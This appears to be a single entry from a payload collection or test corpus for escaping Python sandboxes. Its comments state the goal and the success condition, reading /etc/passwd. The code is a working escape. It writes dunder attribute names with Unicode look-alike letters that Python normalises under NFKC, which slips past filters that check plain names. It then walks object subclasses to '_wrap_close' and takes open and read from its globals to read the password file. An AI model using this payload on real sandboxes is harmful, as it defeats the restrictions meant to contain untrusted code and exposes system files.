# family: dunder
# kind: value
# tries: identifiers that become dunders only when Python normalises them (NFKC)
# success looks like: contents of /etc/passwd (root:x:0)
def job(plugin):
  for child in ().__𝐜lass__.__ᵇase__.__ſubclasses__():
    if child.__name__ == '_wrap_close':
      names = child.__init__.__𝒈lobals__
      return names['read'](names['open']('/etc/passwd', 0), 200)
